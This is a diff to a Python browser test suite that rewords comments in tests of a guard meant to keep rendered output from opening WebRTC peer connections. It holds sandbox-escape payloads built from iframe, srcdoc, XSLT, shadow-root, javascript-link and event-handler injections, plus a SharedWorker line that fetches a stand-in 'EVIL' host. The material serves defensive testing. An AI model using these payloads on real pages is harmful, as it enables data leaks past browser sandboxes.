@@ -1,4 +1,4 @@
-"""Windows that an output makes: in none of them does it find peer connections, which no policy forbids."""
+"""Windows that an output creates: none of them has peer connections, which no policy can block."""
 
 from __future__ import annotations
 
@@ -11,17 +11,17 @@ from tests.support.attacks import Elsewhere
 
 pytestmark = pytest.mark.slow
 
-# Connects a peer, where there is one. Without quotes, so that it fits anywhere.
+# Creates a peer connection, if the window has the class. It has no quotes, so that it can be embedded anywhere.
 PEER = '''for (const kind of [`RTCPeerConnection`, `webkitRTCPeerConnection`, `mozRTCPeerConnection`]) try {
  const peer = new window[kind]({iceServers: [{urls: `stun:127.0.0.1:UDP`}]}); peer.createDataChannel(`x`);
  peer.createOffer().then(offer => peer.setLocalDescription(offer)) } catch (error) {}'''.replace('\n', '')
-# The same as a document, written so that no script around it ends.
+# The same as a document, written so that it does not end an enclosing script.
 DOCUMENT = f'`<script>{PEER.replace("`", chr(92) + "`")}<` + `/script>`'
 MARKUP = f'<script>{PEER}</script>'
 FRAME = 'const f = document.createElement(`iframe`);'
 ADD = 'document.documentElement.append(f);'
 
-# What a script replaces before it tries, and how it makes a window.
+# Functions that a script replaces before its attempt.
 REPLACED = {
     'nothing': '',
     'querySelectorAll': 'for (const p of [Document, Element, DocumentFragment]) p.prototype.querySelectorAll = () => [];',
@@ -76,7 +76,7 @@ ROUTES = {
     'a style sheet of XML': f'const p = new XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe><xsl:attribute name="srcd{{}}oc">`.replace(`{{}}`, ``) + {DOCUMENT}.replaceAll(`<`, `&lt;`) + `</xsl:attribute></iframe></xsl:template></xsl:stylesheet>`, `text/xml`)); document.documentElement.append(p.transformToFragment(document, document))',
     'taking it out of a frame again': f'{FRAME} f.srcdoc = `<p>x`; {ADD} setTimeout(() => {{ f.srcdoc = f.srcdoc.slice(0, 40) + {DOCUMENT} }}, 80)',
 }
-# What markup does before any script of it has run.
+# Markup that takes effect before any of its scripts has run.
 WRITTEN = {
     'a frame': f'<iframe srcdoc="{MARKUP}"></iframe>', 'capitals': f'<IFRAME SRCDOC="{MARKUP}"></IFRAME>',
     'in a shadow root': f'<p><template shadowrootmode=closed><iframe srcdoc="{MARKUP}"></iframe></template></p>',
@@ -91,10 +91,10 @@ WRITTEN = {
     'by a link': f'<iframe name=g></iframe><a id=a target=g href="javascript:{PEER}">x</a><script>setTimeout(() => a.click(), 80)</script>',
     'a handler': f'<iframe onload="{PEER}"></iframe><img src onerror="{PEER}">',
 }
-# WebKit lets a SharedWorker of data fetch whatever it likes.
+# WebKit lets a SharedWorker from a data URL fetch any address.
 SHARED = '<script>new SharedWorker(`data:text/javascript,` + encodeURIComponent(`fetch("http://EVIL/w").catch(() => 0)`))</script>'
 
-# Enough to meet each part of what watches, for each thing that a script can replace.
+# A selection that covers each part of the guard, for each function that a script can replace.
 FEW = ('a property', 'an attribute node', 'markup', 'a closed shadow root, filled later', 'writing a shadow root in parts', 'a policy of its own',
        'an address', 'a frame of a frame')
 ATTACKS = {**{f'markup: {name}': text for name, text in WRITTEN.items()},
@@ -134,7 +134,7 @@ def test_no_engine_lets_an_output_out(engine, elsewhere):
 
 
 def test_frames_of_an_output_work(visit):
-    """Each way of making a frame still shows it, and what runs in it."""
+    """Each way of creating a frame still works, and its scripts run."""
     page = visit.open()
     inner = '<p>inner</p><script>document.body.append(`ran`, typeof RTCPeerConnection, typeof SharedWorker)</script>'
     text = json.dumps(inner).replace('/', '\\/')
@@ -149,7 +149,7 @@ def test_frames_of_an_output_work(visit):
 
 
 def test_scripts_of_libraries_get_what_they_give(visit):
-    """The default policy changes no markup that people see, and a library's own policy works."""
+    """The default policy changes no visible markup, and a library's own policy works."""
     page = visit.open()
     visit.show(['text/html', '<body><p id=a></p><p id=b></p><script>a.innerHTML = "<b>srcdoc, shadowrootmode</b>"; b.innerHTML = trustedTypes.createPolicy("lit-html", '
                 '{createHTML: text => text + "!"}).createHTML("<i>policy</i>"); a.append(eval("1 + 1"), new Function("return 3")())</script>'])
@@ -160,7 +160,7 @@ def test_scripts_of_libraries_get_what_they_give(visit):
 
 
 def damage(visit, elsewhere, names: list[str]) -> list[str]:
-    """Who was reached, and whether the page is still there, after some attacks."""
+    """The requests that attacks have sent, crashes of the page, and failed items."""
     page = visit.open()
     outcomes = visit.show(*(['text/html', ATTACKS[name].replace('UDP', str(elsewhere.udp_port))] for name in names))
     page.wait_for_timeout(600 + 60 * len(names))
@@ -170,7 +170,7 @@ def damage(visit, elsewhere, names: list[str]) -> list[str]:
 
 
 def test_the_attacks_would_be_noticed(new_visit, elsewhere):
-    """Each way of making a window works, in a plain frame as it does in a browser without this."""
+    """Without the guard, in a plain frame, each way of creating a window succeeds."""
     visit = new_visit()
     page = visit.open()
     reached = []
